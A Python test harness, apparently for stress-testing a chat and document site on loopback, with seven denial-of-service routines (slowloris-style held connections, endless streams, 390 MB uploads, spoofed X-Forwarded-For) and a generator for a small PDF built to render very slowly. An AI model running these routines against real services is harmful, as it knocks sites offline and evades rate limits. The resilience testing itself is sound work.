"""What one attacker does to the site, each way until it is told to end. Only the loopback is asked."""

from __future__ import annotations

import socket
import threading
import zlib
from collections import Counter
from collections.abc import Callable, Iterable
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx

ADDRESS = "203.0.113.5"  # of the attacker, as the site's proxy would say
ENDLESS = "Tell me everything about the pump, without an end."
LONG = 390_000_000  # bytes
PART = bytes(65_536)
MULTIPART = "Content-Type: multipart/form-data; boundary=edge"
FILE = b'--edge\r\nContent-Disposition: form-data; name="file"; filename="a.md"\r\n\r\nText'


@dataclass
class Attack:
    """One attacker's means, and what came of them. `end` is set when it is over."""

    url: str
    secret: str  # of the attacker's own API key
    session: str
    slow: int  # the id of the document whose pages are slow to draw
    end: threading.Event = field(default_factory=threading.Event)
    got: Counter[str] = field(default_factory=Counter)

    @property
    def key(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.secret}", "X-Forwarded-For": ADDRESS}

    def stream(self, method: str, path: str, *, headers: dict[str, str], json: object = None) -> None:
        """Ask for a stream and read it until the end of the attack."""
        try:
            with (
                httpx.Client(timeout=30, headers=headers) as client,
                client.stream(method, self.url + path, json=json) as response,
            ):
                self.got[str(response.status_code)] += 1
                for _ in response.iter_raw():
                    if self.end.is_set():
                        return
        except httpx.HTTPError as error:
            self.got[type(error).__name__] += 1

    def connect(self, stack: ExitStack, beginning: bytes) -> socket.socket:
        address = urlsplit(self.url)
        connection = stack.enter_context(socket.create_connection((address.hostname, address.port), timeout=60))
        connection.sendall(beginning)
        return connection


def _all(work: Iterable[Callable[[], None]]) -> None:
    threads = [threading.Thread(target=one, daemon=True) for one in work]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def anonymous_streams(attack: Attack) -> None:
    """64 anonymous streams"""
    asked = {"query": ENDLESS, "stream": True}
    headers = {"X-Forwarded-For": ADDRESS}
    _all([lambda: attack.stream("POST", "/api/v1/chat/query", headers=headers, json=asked)] * 64)


def fresh_cookies(attack: Attack) -> None:
    """20 fresh cookies, four questions each"""

    def four() -> None:
        with httpx.Client(timeout=30) as client:
            client.get(attack.url + "/", headers={"X-Forwarded-For": ADDRESS})
            cookies = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
            token = client.cookies.get("csrftoken", "")
        headers = {"X-Forwarded-For": ADDRESS, "Cookie": cookies, "X-CSRFToken": token}
        asked = {"query": ENDLESS, "stream": True}
        _all([lambda: attack.stream("POST", "/api/v1/chat/query", headers=headers, json=asked)] * 4)

    _all([four] * 20)


def followers(attack: Attack) -> None:
    """140 followers of one answer"""
    asked = {"query": ENDLESS, "stream": True, "keep": True}
    with (
        httpx.Client(timeout=30, headers=attack.key) as client,
        client.stream("POST", f"{attack.url}/api/v1/chat/query", json=asked) as response,
    ):
        line = next(line for line in response.iter_lines() if "run_id" in line)
        run = line.partition('"run_id":')[2].strip().split('"')[1]
    _all([lambda: attack.stream("GET", f"/api/v1/chat/runs/{run}/events", headers=attack.key)] * 140)


def attachments(attack: Attack) -> None:
    """ten attachments of 9.9 MB"""
    for number in range(10):
        words = "".join(f"Pump {number} of line {line} needs oil every {line % 97} days. " for line in range(210_000))
        files = {"file": (f"{number}.md", words[:9_900_000].encode())}
        with suppress(httpx.HTTPError):
            response = httpx.post(f"{attack.url}/api/v1/chat/attachments", files=files, headers=attack.key, timeout=60)
            attack.got[str(response.status_code)] += 1
    attack.end.wait()


def half_sent(attack: Attack) -> None:
    """260 half-sent heads and bodies"""
    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Never: "
    post = f"POST /api/v1/chat/attachments HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {attack.secret}\r\n"
    body = f"{post}{MULTIPART}\r\nContent-Length: 9900000\r\n\r\n".encode() + FILE
    with ExitStack() as stack:
        for number in range(260):
            attack.connect(stack, body if number % 2 else head)
            attack.got["held"] += 1
        attack.end.wait()


def slow_pages(attack: Attack) -> None:
    """240 requests for pages that take long to draw"""
    headers = {"Cookie": f"sessionid={attack.session}", "X-Forwarded-For": ADDRESS}

    def one(page: int) -> None:
        try:
            url = f"{attack.url}/documents/{attack.slow}/pages/{page % 12 + 1}?width={(800, 1600)[page % 2]}"
            attack.got[str(httpx.get(url, headers=headers, timeout=60).status_code)] += 1
        except httpx.HTTPError as error:
            attack.got[type(error).__name__] += 1

    _all([lambda page=page: one(page) for page in range(240)])  # type: ignore[misc]


def long_bodies(attack: Attack) -> None:
    """30 multipart bodies of 390 MB by nobody"""
    paths = ("/", "/ask/", "/accounts/login/", "/admin/login/", "/api/v1/chat/query", "/api/v1/chat/attachments")

    def one(number: int) -> None:
        head = f"POST {paths[number % 6]} HTTP/1.1\r\nHost: 127.0.0.1\r\n{MULTIPART}\r\n"
        chunked = number % 2
        head += "Transfer-Encoding: chunked\r\n\r\n" if chunked else f"Content-Length: {LONG}\r\n\r\n"
        part = b"%x\r\n%b\r\n" % (len(PART), PART) if chunked else PART
        sent = 0
        with ExitStack() as stack:
            connection = attack.connect(stack, head.encode())
            with suppress(OSError):
                while sent < LONG and not attack.end.is_set():
                    connection.sendall(part)
                    sent += len(part)
            attack.got["MB sent"] += sent // 1_000_000
            with suppress(OSError):
                attack.got[connection.recv(65_536).split(b" ")[1].decode()] += 1

    _all([lambda number=number: one(number) for number in range(30)])  # type: ignore[misc]


WAYS: tuple[Callable[[Attack], None], ...] = (
    anonymous_streams,
    fresh_cookies,
    followers,
    attachments,
    half_sent,
    slow_pages,
    long_bodies,
)


def slow_pdf(*, pages: int, fills: int = 20_000) -> bytes:
    """Return a PDF of 2 KB whose text is read at once: each page has many half-transparent areas over all of it, one
    above the other."""
    content = (
        b"/a gs 0.9 0.9 1 rg\n" + b"0 0 600 800 re f\n" * fills + b"BT /F1 12 Tf 0 g 72 700 Td (A slow pump.) Tj ET"
    )
    packed = zlib.compress(content)
    kids = b" ".join(b"%d 0 R" % (6 + number) for number in range(pages))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R "
        b"/Resources << /Font << /F1 3 0 R >> /ExtGState << /a 4 0 R >> >> >>"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /ExtGState /ca 0.5 >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(packed), packed),
        *[page] * pages,
    ]
    written = b"%PDF-1.4\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size, at = len(objects) + 1, len(written)
    return written + (
        b"xref\n0 %d\n0000000000 65535 f \n%btrailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF"
        % (size, table, size, at)
    )
